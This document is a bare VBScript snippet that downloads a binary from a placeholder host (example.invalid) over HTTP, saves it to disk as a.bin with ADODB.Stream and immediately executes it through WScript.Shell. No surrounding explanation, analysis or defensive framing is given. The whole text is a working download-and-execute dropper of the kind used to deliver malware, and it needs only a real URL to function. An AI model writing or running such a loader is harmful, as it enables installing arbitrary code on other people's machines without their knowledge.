Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://example.invalid/a.bin", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write h.responseBody
s.SaveToFile "a.bin", 2
CreateObject("WScript.Shell").Run "a.bin"
